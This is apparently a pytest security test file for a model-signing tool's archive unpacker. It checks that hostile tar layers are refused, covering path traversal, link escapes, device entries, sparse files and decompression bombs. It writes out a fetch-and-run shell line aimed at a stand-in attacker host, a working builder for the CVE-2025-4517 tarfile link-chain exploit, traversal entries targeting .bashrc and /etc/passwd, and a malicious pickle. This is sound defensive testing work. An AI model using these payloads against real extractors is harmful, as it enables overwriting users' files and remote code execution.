"""Hostile layers cannot make `modelsign scan` write outside its unpack directory.

Every archive is built here at run time. Each test ends by checking a sentinel directory
beside the unpack directory (a `home/` with a `.bashrc`, as in the incident) is untouched,
and that the failure is a FormatError saying what was refused and how to fix it.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import stat
import sys
import tarfile
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import run_cli
from signer.errors import FormatError
from signer.evidence.scan.modelfiles import scan_model_files
from signer.evidence.scan.safe_extract import Budget, SafeTree, extract_tar
from signer.evidence.scan.scanning import _model_files
from signer.evidence.scan.unpack import RAW_PATH_ANNOTATION, UnpackLimits, Unpacked, unpack_image, unpack_modelkit
from signer.formats import mediatypes as mt
from signer.formats.digests import sha256_digest
from signer.oci.manifest import Descriptor, encode_image_manifest
from signer.oci.stores import Stores
from signer.references import parse_reference
from test_scanning import KITFILE, TRIVY_REPORTS, directory_member, file_member, link_member, tar_layer

ORIGINAL = b"# the operator's shell profile\n"
PAYLOAD = b"curl https://attacker.example/x | sh\n"
ESCAPED = "has an entry that would escape the unpack directory"
UNSUPPORTED = "has an entry modelsign does not unpack"


# -- the sentinel beside the unpack directory ---------------------------------------------------


def _snapshot(root: Path, skip: Path) -> dict[str, tuple[int, bytes]]:
    """Every path under `root` but `skip`: its type and its content (or link target)."""
    seen: dict[str, tuple[int, bytes]] = {}
    for directory, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if Path(directory, d) != skip]
        for name in dirs + files:
            path = Path(directory, name)
            info = path.lstat()
            content = path.read_bytes() if stat.S_ISREG(info.st_mode) else os.fsencode(os.readlink(path)) if path.is_symlink() else b""
            seen[str(path.relative_to(root))] = (stat.S_IFMT(info.st_mode), content)
    return seen


class Sentinel:
    """`home/.bashrc` beside `work/` (the unpack directory): what an escape would overwrite."""

    def __init__(self, base: Path) -> None:
        self.base, self.work, self.home = base, base / "work", base / "home"
        self.home.mkdir()
        (self.home / ".bashrc").write_bytes(ORIGINAL)
        self.before = _snapshot(base, self.work)

    def assert_untouched(self) -> None:
        assert (self.home / ".bashrc").read_bytes() == ORIGINAL
        assert _snapshot(self.base, self.work) == self.before, "an entry was written outside the unpack directory"


@pytest.fixture
def sentinel(tmp_path: Path) -> Sentinel:
    return Sentinel(tmp_path)


# -- archives ---------------------------------------------------------------------------------


def member(name: str, kind: bytes, **fields: object) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    for key, value in fields.items():
        setattr(info, key, value)
    return info, None


def hard_member(name: str, target: str) -> tuple[tarfile.TarInfo, None]:
    return link_member(name, target, tarfile.LNKTYPE)


def cve_2025_4517_layer(climb: int, target: str, long_name: int = 247) -> bytes:
    """The published shape: 16 directories with long names, each reached through a one-letter
    link; a 254-character link at the bottom that climbs back to the top; `weights` through it
    and `climb` levels further up to `target`; then a file written through `weights`. Python's
    `data` filter resolves the long path lexically and lets it through (see the test below)."""
    steps, long_dir = "abcdefghijklmnop", "d" * long_name
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    path = ""
    for step in steps:
        members += [directory_member(os.path.join(path, long_dir)), link_member(os.path.join(path, step), long_dir)]
        path = os.path.join(path, long_dir)
    bottom = "/".join(steps) + "/" + "l" * 254
    members += [link_member(bottom, "../" * len(steps)), link_member("weights", bottom + "/.." * climb + "/" + target),
                file_member("weights/.bashrc", PAYLOAD)]
    return tar_layer(members)


Layer = tuple[Descriptor, bytes]


def tar_kit_layer(blob: bytes, kind: str = "model") -> Layer:
    return Descriptor.for_content(f"{mt.KITOPS_LAYER_PREFIX}{kind}.v1.tar+gzip", blob), blob


def raw_kit_layer(data: bytes, path: str) -> Layer:
    return Descriptor.for_content(f"{mt.MODELPACK_LAYER_PREFIX}weight.v1.raw", data, annotations={RAW_PATH_ANNOTATION: path}), data


def push_kit(stores: Stores, host: str, layers: list[Layer]) -> tuple:
    """A ModelKit of `layers` in the real registry: (reference, repository, manifest)."""
    reference = parse_reference(f"kit://{host}/hostile/k{sha256_digest(b''.join(d.digest.encode() for d, _ in layers))[7:19]}:1")
    repository = stores.repository(reference)
    config = json.dumps(KITFILE).encode()
    repository.push_blob(config)
    for _, blob in layers:
        repository.push_blob(blob)
    raw = encode_image_manifest(Descriptor.for_content(mt.KITOPS_CONFIG, config), [d for d, _ in layers])
    repository.push_manifest(raw, mt.OCI_MANIFEST, tag="1")
    return str(reference), repository, repository.fetch_manifest("1")


def unpack_kit(registry, stores: Stores, work: Path, members: list, limits: UnpackLimits = UnpackLimits()) -> Unpacked:
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(tar_layer(members))])
    return unpack_modelkit(repository, manifest, work, limits)


def unpack_image_layers(registry, stores: Stores, work: Path, layers: list[bytes]) -> Unpacked:
    reference = parse_reference(f"{registry.host}/hostile/image{sha256_digest(b''.join(layers))[7:19]}:1")
    repository = stores.repository(reference)
    config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": []}}).encode()
    repository.push_blob(config)
    for layer in layers:
        repository.push_blob(layer)
    raw = encode_image_manifest(Descriptor.for_content(mt.OCI_CONFIG, config), [Descriptor.for_content(mt.OCI_LAYER_TAR_GZIP, layer) for layer in layers])
    repository.push_manifest(raw, mt.OCI_MANIFEST, tag="1")
    return unpack_image(repository, repository.fetch_manifest("1"), work)


# -- the incident -------------------------------------------------------------------------------


def _tarfile_has_cve_2025_4517() -> bool:
    fixed = {(3, 9): 23, (3, 10): 18, (3, 11): 13, (3, 12): 11, (3, 13): 4}
    return sys.version_info[:2] in fixed and sys.version_info[2] < fixed[sys.version_info[:2]]


def test_the_layer_built_here_is_the_real_exploit_for_this_python(tmp_path):
    """So the refusals below are refusals of a working attack: on an unfixed Python, tarfile's
    `data` filter writes this layer's `.bashrc` outside the destination."""
    (tmp_path / "home").mkdir()
    destination = tmp_path / "py" / "models"
    destination.mkdir(parents=True)
    layer = gzip.decompress(cve_2025_4517_layer(climb=2, target="home"))
    try:
        with tarfile.open(fileobj=io.BytesIO(layer), mode="r|") as archive:
            for entry in archive:
                archive.extract(entry, destination, filter="data")
    except (tarfile.TarError, OSError):
        pass  # a fixed Python refuses it
    assert (tmp_path / "home" / ".bashrc").exists() == _tarfile_has_cve_2025_4517()


@pytest.mark.parametrize("long_name, problem", [
    (247, UNSUPPORTED + r": entry 'ddd.*is a 2231-byte path; modelsign unpacks paths of at most 2048 bytes"),
    (100, ESCAPED + r": symbolic link 'a/b/.*goes through the symbolic link 'a'; modelsign never writes through links"),
], ids=["as-published", "short-enough-to-reach-the-links"])
def test_cve_2025_4517_link_chain_is_refused(registry, stores, sentinel, long_name, problem):
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(cve_2025_4517_layer(climb=2, target="home", long_name=long_name))])
    with pytest.raises(FormatError, match=problem):
        unpack_modelkit(repository, manifest, sentinel.work)
    sentinel.assert_untouched()


def test_scan_from_report_refuses_the_incident_layer_cleanly(capsys, monkeypatch, registry, stores, sentinel, key_dir):
    """The incident end to end: `modelsign scan KIT --from-report` unpacks into TMPDIR; the
    layer aims four levels above the unpack root (work/tmp/modelsign-scan-*/models), at home/."""
    tmp = sentinel.work / "tmp"
    tmp.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    reference, _, _ = push_kit(stores, registry.host, [tar_kit_layer(cve_2025_4517_layer(climb=4, target="home"))])
    code, out, err = run_cli(capsys, "scan", reference, "--key", key_dir / "second-signer.key", "--from-report", TRIVY_REPORTS / "generated-secret-scan.json")
    assert code == 2 and "Traceback" not in err and "Attested" not in out
    assert "error: layer 0 (application/vnd.kitops.modelkit.model.v1.tar+gzip) has an entry modelsign does not unpack" in err
    assert "hint: repack the layer" in err
    assert list(tmp.iterdir()) == []  # the unpack directory is gone too
    sentinel.assert_untouched()


# -- one rule at a time -------------------------------------------------------------------------


@pytest.mark.parametrize("members, problem", [
    ([file_member("../home/.bashrc", PAYLOAD)], ESCAPED + r": entry '../home/.bashrc' contains '..'"),
    ([link_member("model/etc", "/etc")], ESCAPED + r": symbolic link 'model/etc' -> '/etc' points to an absolute path"),
    ([link_member("model/up", "../../home")], ESCAPED + r": symbolic link 'model/up' -> '../../home' points above the layer root"),
    ([directory_member("d"), link_member("x", "d/../../home")], ESCAPED + r": symbolic link 'x' -> 'd/../../home' climbs back up after going down"),
    # each is harmless to a lexical check; together `x` resolves through `a` to the root's parent
    ([link_member("a", "."), link_member("x", "a/../home")], ESCAPED + r": symbolic link 'x' -> 'a/../home' climbs back up"),
    ([link_member("model", "."), file_member("model/.bashrc", PAYLOAD)], ESCAPED + r": entry 'model/.bashrc' goes through the symbolic link 'model'"),
    ([link_member("w", "."), directory_member("w/sub")], ESCAPED + r": entry 'w/sub' goes through the symbolic link 'w'"),
    ([hard_member("h", "/etc/passwd")], ESCAPED + r": the target of hard link 'h' -> '/etc/passwd' is an absolute path"),
    ([hard_member("h", "../home/.bashrc")], ESCAPED + r": the target of hard link 'h' -> '../home/.bashrc' contains '..'"),
    ([directory_member("d"), file_member("d/f", b"x"), link_member("s", "d"), hard_member("h", "s/f")],
     ESCAPED + r": hard link 'h' -> 's/f' goes through the symbolic link 's'"),
], ids=["dotdot-name", "symlink-absolute", "symlink-above-root", "symlink-climbs-after-descending", "links-that-escape-together",
        "file-through-symlink", "directory-through-symlink", "hardlink-absolute", "hardlink-dotdot", "hardlink-through-symlink"])
def test_escapes_are_refused(registry, stores, sentinel, members, problem):
    with pytest.raises(FormatError, match=problem) as refused:
        unpack_kit(registry, stores, sentinel.work, members)
    assert "do not deploy it" in str(refused.value)
    sentinel.assert_untouched()


def test_absolute_entry_aimed_at_the_sentinel_is_refused(registry, stores, sentinel):
    target = str(sentinel.home / ".bashrc")
    with pytest.raises(FormatError, match=ESCAPED + r": entry '/.*/home/.bashrc' is an absolute path"):
        unpack_kit(registry, stores, sentinel.work, [file_member(target, PAYLOAD)])
    sentinel.assert_untouched()


@pytest.mark.parametrize("members, problem", [
    ([member("model/tty", tarfile.CHRTYPE, devmajor=5, devminor=0)], r"'model/tty' is a character device"),
    ([member("model/sda", tarfile.BLKTYPE, devmajor=8, devminor=0)], r"'model/sda' is a block device"),
    ([member("model/pipe", tarfile.FIFOTYPE)], r"'model/pipe' is a FIFO"),
    ([member("model/odd", b"Z")], r"'model/odd' is a tar entry of type b'Z'"),
    ([hard_member("h", "later")], r"hard link 'h' -> 'later': the target is not unpacked before the link"),
    ([directory_member("d"), hard_member("h", "d")], r"hard link 'h' -> 'd': the target is not a regular file"),
    ([file_member("f", b"x"), link_member("s", "f"), hard_member("h", "s")], r"hard link 'h' -> 's': the target is not a regular file"),
    ([file_member("h", b"x"), hard_member("h", "h")], r"hard link 'h' -> 'h' links to itself"),
    ([directory_member("w"), file_member("w/a", b"x"), file_member("w", b"x")], r"entry 'w' would replace the directory an earlier entry made"),
    ([directory_member("w"), link_member("w", ".")], r"entry 'w' would replace the directory an earlier entry made"),
    ([file_member("f", b"x"), file_member("f/x", b"x")], r"entry 'f/x' needs 'f' to be a directory, but an earlier entry made it a file"),
    ([file_member("n" * 256, b"x")], r"has a 256-byte name in it; file systems allow 255"),
    ([file_member("/".join(["p" * 200] * 15), b"x")], r"is a 3014-byte path; modelsign unpacks paths of at most 2048 bytes"),
    ([file_member("d/" * 200 + "f", b"x")], r"is 201 directories deep; modelsign unpacks at most 128"),
], ids=["character-device", "block-device", "fifo", "unknown-type", "hardlink-to-missing", "hardlink-to-directory", "hardlink-to-symlink",
        "hardlink-to-itself", "file-replaces-directory", "symlink-replaces-directory", "file-under-a-file", "long-name", "long-path", "deep-path"])
def test_unsupported_entries_are_refused(registry, stores, sentinel, members, problem):
    with pytest.raises(FormatError, match=UNSUPPORTED + ": .*" + problem) as refused:
        unpack_kit(registry, stores, sentinel.work, members)
    assert refused.value.hint and "repack the layer" in refused.value.hint
    sentinel.assert_untouched()


def test_raw_layer_paths_follow_the_same_rules(registry, stores, sentinel):
    _, repository, manifest = push_kit(stores, registry.host, [raw_kit_layer(PAYLOAD, "../home/.bashrc")])
    with pytest.raises(FormatError, match=ESCAPED + r": entry '../home/.bashrc' contains '..'"):
        unpack_modelkit(repository, manifest, sentinel.work / "a")
    # a code layer links `w` to its tree's root; the raw file (also unpacked to context/) is not renamed through it
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(tar_layer([link_member("w", ".")]), "code"),
                                                               raw_kit_layer(PAYLOAD, "w/.bashrc")])
    with pytest.raises(FormatError, match=ESCAPED + r": entry 'w/.bashrc' goes through the symbolic link 'w'"):
        unpack_modelkit(repository, manifest, sentinel.work / "b")
    sentinel.assert_untouched()


# -- what is kept ---------------------------------------------------------------------------------


def test_links_inside_the_tree_are_kept_and_not_scanned_twice(registry, stores, sentinel):
    """A Hugging Face cache layout: snapshot files link back to content-addressed blobs."""
    unpacked = unpack_kit(registry, stores, sentinel.work, [
        file_member("hf/blobs/abc", b"\x80\x04K\x01."),
        link_member("hf/snapshots/main/model.pkl", "../../blobs/abc"),
        link_member("hf/snapshots/main/here", "./."),
        hard_member("hf/copy.pkl", "hf/blobs/abc"),
    ])
    root = unpacked.models
    assert os.readlink(root / "hf/snapshots/main/model.pkl") == "../../blobs/abc"
    assert os.readlink(root / "hf/snapshots/main/here") == "."
    assert (root / "hf/copy.pkl").stat().st_ino == (root / "hf/blobs/abc").stat().st_ino
    assert (root / "hf/snapshots/main/model.pkl").read_bytes() == b"\x80\x04K\x01."
    assert sorted(f["path"] for f in scan_model_files(root).files) == ["hf/blobs/abc", "hf/copy.pkl"]
    assert unpacked.files == 4
    sentinel.assert_untouched()


def test_later_entries_replace_files_and_links_without_following_them(registry, stores, sentinel):
    unpacked = unpack_kit(registry, stores, sentinel.work, [
        file_member("keep.txt", b"keep"),
        link_member("w", "keep.txt"), file_member("w", b"new"),  # a file over a link replaces the link
        link_member("x", "keep.txt"), directory_member("x"),  # a directory over a link likewise
        file_member("a", b"A"), hard_member("b", "a"), file_member("b", b"B"),  # a file over a hard link does not write into its twin
    ])
    root = unpacked.models
    assert (root / "keep.txt").read_bytes() == b"keep" and (root / "a").read_bytes() == b"A"
    assert not (root / "w").is_symlink() and (root / "w").read_bytes() == b"new"
    assert not (root / "x").is_symlink() and (root / "x").is_dir()
    assert (root / "b").read_bytes() == b"B"
    sentinel.assert_untouched()


def test_setuid_setgid_and_sticky_bits_are_stripped(registry, stores, sentinel):
    root = unpack_kit(registry, stores, sentinel.work, [
        _with_mode(file_member("model/run", b"#!/bin/sh\n"), 0o6755),
        _with_mode(file_member("model/data", b"x"), 0o4666),
        member("model/shared", tarfile.DIRTYPE, mode=0o1777),
    ]).models
    assert stat.S_IMODE((root / "model/run").stat().st_mode) == 0o755 & ~_umask()
    assert stat.S_IMODE((root / "model/data").stat().st_mode) == 0o644 & ~_umask()
    assert stat.S_IMODE((root / "model/shared").stat().st_mode) == 0o755 & ~_umask()
    sentinel.assert_untouched()


def _with_mode(entry: tuple[tarfile.TarInfo, bytes | None], mode: int) -> tuple[tarfile.TarInfo, bytes | None]:
    entry[0].mode = mode
    return entry


def _umask() -> int:
    current = os.umask(0)
    os.umask(current)
    return current


def test_image_links_are_rebased_to_the_image_root(registry, stores, sentinel):
    """In an image's root filesystem `/` means the image's root (a container sees it so);
    climbing still never goes above it, and writing through links is still refused."""
    unpacked = unpack_image_layers(registry, stores, sentinel.work, [tar_layer([
        file_member("./usr/share/zoneinfo/UTC", b"TZif"),
        link_member("./etc/localtime", "/usr/share/zoneinfo/UTC"),
        link_member("./usr/bin/python", "../../../../usr/bin/python3.11"),
        link_member("./bin", "usr/bin"),
    ])])
    root = unpacked.models
    assert os.readlink(root / "etc/localtime") == "../usr/share/zoneinfo/UTC" and (root / "etc/localtime").read_bytes() == b"TZif"
    assert os.readlink(root / "usr/bin/python") == "../../usr/bin/python3.11"
    assert os.readlink(root / "bin") == "usr/bin"
    with pytest.raises(FormatError, match=ESCAPED + r": entry 'bin/evil' goes through the symbolic link 'bin'"):
        unpack_image_layers(registry, stores, sentinel.work / "again", [tar_layer([link_member("bin", "usr/bin"), file_member("bin/evil", PAYLOAD)])])
    with pytest.raises(FormatError, match=ESCAPED + r": symbolic link 'x' -> '/a/../..' climbs back up"):
        unpack_image_layers(registry, stores, sentinel.work / "third", [tar_layer([link_member("x", "/a/../..")])])
    sentinel.assert_untouched()


# -- sizes, bombs and sparse files ----------------------------------------------------------------


def test_a_huge_member_is_refused_before_a_byte_is_written(registry, stores, sentinel):
    info = tarfile.TarInfo("model/weights.bin")
    info.size = 200 * 1024**3  # more than the 100 GiB default; the layer itself is tiny
    layer = gzip.compress(info.tobuf(tarfile.PAX_FORMAT) + b"\0" * 4096)
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(layer)])
    with pytest.raises(FormatError, match=r"more than 107374182400 bytes unpacked \(entry 'model/weights.bin' is 214748364800 bytes\)"):
        unpack_modelkit(repository, manifest, sentinel.work)
    assert list((sentinel.work / "models").iterdir()) == []
    sentinel.assert_untouched()


def _sparse_gnu() -> bytes:
    info = tarfile.TarInfo("model/sparse.bin")
    info.type = tarfile.GNUTYPE_SPARSE
    return info.tobuf(tarfile.GNU_FORMAT) + b"\0" * 1024


def _sparse_pax(headers: dict[str, str], data: bytes) -> bytes:
    info = tarfile.TarInfo("model/GNUSparseFile.0/sparse.bin")
    info.size, info.pax_headers = len(data), {"GNU.sparse.name": "model/sparse.bin", "GNU.sparse.realsize": str(2**40), **headers}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.mark.parametrize("layer", [
    _sparse_gnu(),
    _sparse_pax({"GNU.sparse.major": "1", "GNU.sparse.minor": "0"}, f"1\n{2**40 - 512}\n512\n".encode().ljust(512, b"\0") + b"x" * 512),
    _sparse_pax({"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": f"{2**40 - 1},1"}, b"x"),
    _sparse_pax({"GNU.sparse.size": str(2**40), "GNU.sparse.numblocks": "1", "GNU.sparse.offset": str(2**40 - 1), "GNU.sparse.numbytes": "1"}, b"x"),
], ids=["gnu-old", "pax-1.0", "pax-0.1", "pax-0.0"])
def test_sparse_members_are_refused(registry, stores, sentinel, layer):
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(gzip.compress(layer))])
    with pytest.raises(FormatError, match=UNSUPPORTED + r": '.*sparse.bin' is a sparse file"):
        unpack_modelkit(repository, manifest, sentinel.work)
    assert list((sentinel.work / "models").iterdir()) == []
    sentinel.assert_untouched()


def test_gzip_bombs_stop_at_the_limits(registry, stores, sentinel):
    small = UnpackLimits(max_bytes=1024**2, max_files=10)
    # 64 MiB of zeros in one member: refused by its declared size before writing
    info = tarfile.TarInfo("model/zeros.bin")
    info.size = 64 * 1024**2
    zeros = gzip.compress(info.tobuf(tarfile.PAX_FORMAT) + b"\0" * info.size)
    assert len(zeros) < 100 * 1024
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(zeros)])
    with pytest.raises(FormatError, match=r"more than 1048576 bytes unpacked \(entry 'model/zeros.bin'"):
        unpack_modelkit(repository, manifest, sentinel.work / "a", small)
    # 32 MiB of global pax headers, which are no entry and no file: stopped while decompressing
    padding = tarfile.TarInfo.create_pax_global_header({"comment": "x" * (512 * 1024)}) * 64
    headers = gzip.compress(padding + gzip.decompress(tar_layer([file_member("model/a", b"a")])))
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(headers)])
    with pytest.raises(FormatError, match=r"decompresses to more than \d+ bytes of tar data, more than its entries can need \(a decompression bomb\)"):
        unpack_modelkit(repository, manifest, sentinel.work / "b", small)
    # thousands of tiny chained headers, which tarfile follows by recursion
    chained = gzip.compress(tarfile.TarInfo.create_pax_global_header({"c": "x"}) * 5000 + gzip.decompress(tar_layer([file_member("model/a", b"a")])))
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(chained)])
    with pytest.raises(FormatError, match=r"chains more tar headers before one entry than modelsign follows"):
        unpack_modelkit(repository, manifest, sentinel.work / "d")
    # one 4 MiB extended header, which tarfile would hold in memory whole
    big = tarfile.TarInfo("model/b")
    big.pax_headers = {"comment": "y" * (4 * 1024**2)}
    _, repository, manifest = push_kit(stores, registry.host, [tar_kit_layer(tar_layer([(big, b"")]))])
    with pytest.raises(FormatError, match=UNSUPPORTED + r": a \d+-byte extended header \(more than the 1048576 modelsign reads\)"):
        unpack_modelkit(repository, manifest, sentinel.work / "c")
    sentinel.assert_untouched()


def test_implied_directories_count_as_entries(registry, stores, sentinel):
    with pytest.raises(FormatError, match=r"more than 3 files \(entries: files, directories and links\)"):
        unpack_kit(registry, stores, sentinel.work, [file_member("a/b/c/d/e", b"x")], UnpackLimits(max_files=3))
    sentinel.assert_untouched()


# -- the model-file walk --------------------------------------------------------------------------


def test_the_model_file_check_reports_a_path_too_long_to_read(tmp_path):
    """Trees deeper than PATH_MAX cannot come from the unpacker any more; should one reach the
    check anyway, the scan fails with a message instead of a traceback (or a silent pass)."""
    tree = tmp_path / "models"
    tree.mkdir()
    fd = os.open(tree, os.O_RDONLY | os.O_DIRECTORY)
    length = len(os.fsencode(str(tree)))
    while length + 251 < 4095:  # directories the OS can still list (under PATH_MAX); the file in them is past it
        os.mkdir("d" * 250, dir_fd=fd)
        child = os.open("d" * 250, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd, length = child, length + 251
    with open(os.open("x" * 251 + ".pkl", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "wb") as handle:
        handle.write(b"cos\nsystem\n(S'echo pwned'\ntR.")
    os.close(fd)
    (tmp_path / "context").mkdir()
    with pytest.raises(FormatError, match=r"the model-file check could not read '.*' \(\d+ characters\): File name too long") as failed:
        _model_files(Unpacked(context=tmp_path / "context", models=tree))
    assert "do not deploy it" in str(failed.value)


# -- properties -----------------------------------------------------------------------------------

def _paths(components: list[str], leads: list[str]) -> st.SearchStrategy[str]:
    return st.builds(lambda lead, parts: lead + "/".join(parts), st.sampled_from(leads), st.lists(st.sampled_from(components), min_size=1, max_size=4))


# names mostly without `..` (refused outright), targets with every kind of step
_ENTRIES = st.lists(st.tuples(st.sampled_from([tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.SYMTYPE, tarfile.REGTYPE, tarfile.LNKTYPE]),
                              _paths(["a", "b", "a", "b", ".", ".."], ["", "", "./", "/"]), _paths(["a", "b", "..", "..", ".", ""], ["", "", "/"])),
                    max_size=8)


@pytest.mark.parametrize("rootfs", [False, True], ids=["modelkit", "image"])
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(entries=_ENTRIES)
def test_no_order_of_links_and_files_reaches_outside(tmp_path, rootfs, entries):
    """Whatever the entries and their order: every path in the tree, links followed, stays in
    it, nothing appears beside it, and a refusal is a FormatError."""
    base = Path(tempfile.mkdtemp(dir=tmp_path))
    sentinel = Sentinel(base)
    root = sentinel.work / "models"
    root.mkdir(parents=True)
    members = []
    for kind, name, target in entries:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, target if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE) else ""
        members.append((info, b"x" if kind == tarfile.REGTYPE else None))
        if kind == tarfile.REGTYPE:
            info.size = 1
    blob = sentinel.work / "layer.blob"
    blob.write_bytes(tar_layer(members))
    try:
        with SafeTree(root, what="layer 0", budget=Budget(UnpackLimits()), rootfs=rootfs) as tree:
            extract_tar(blob, tree)
    except FormatError:
        pass
    for directory, dirs, files in os.walk(root):
        for name in dirs + files:
            resolved = Path(os.path.realpath(Path(directory, name)))
            assert resolved == root or root in resolved.parents, f"{Path(directory, name)} resolves to {resolved}"
    sentinel.assert_untouched()


def test_mutated_layers_fail_cleanly(tmp_path):
    """Bytes flipped anywhere in a layer give a FormatError or a tree, never another exception."""
    base = gzip.decompress(tar_layer([directory_member("m"), file_member("m/a.pkl", b"\x80\x04K\x01."), link_member("m/l", "a.pkl"),
                                      (_with_mode(file_member("m/b", b"b" * 700), 0o755)), hard_member("m/h", "m/b")]))

    @settings(max_examples=200, deadline=None)
    @given(flips=st.lists(st.tuples(st.integers(0, len(base) - 1), st.integers(0, 255)), min_size=1, max_size=6))
    def run(flips: list[tuple[int, int]]) -> None:
        mutated = bytearray(base)
        for at, value in flips:
            mutated[at] = value
        sentinel = Sentinel(Path(tempfile.mkdtemp(dir=tmp_path)))
        (sentinel.work / "models").mkdir(parents=True)
        (sentinel.work / "layer.blob").write_bytes(bytes(mutated))
        try:
            with SafeTree(sentinel.work / "models", what="layer 0", budget=Budget(UnpackLimits(max_bytes=10**6, max_files=50)), rootfs=False) as tree:
                extract_tar(sentinel.work / "layer.blob", tree)
        except FormatError as exc:
            assert exc.message.startswith("layer 0")
        sentinel.assert_untouched()

    run()


@pytest.mark.parametrize("declared", [10, 1024 * 1024])
def test_a_layer_longer_than_its_descriptor_is_refused_as_it_streams(registry, stores, sentinel, declared):
    """A layer declared as `declared` bytes whose blob holds 8 MiB: the download stops at the
    declared size instead of streaming everything to disk before the digest check."""
    import dataclasses

    blob = os.urandom(8 * 1024 * 1024)
    descriptor, _ = raw_kit_layer(blob, "weights.bin")
    _, repository, manifest = push_kit(stores, registry.host, [(dataclasses.replace(descriptor, size=declared), blob)])
    with pytest.raises(FormatError, match=f"larger than the {declared} bytes allowed"):
        unpack_modelkit(repository, manifest, sentinel.work, UnpackLimits())
    sentinel.assert_untouched()
    assert not any(p.name == "layer.blob" for p in sentinel.work.rglob("*")), "the partial download is removed"
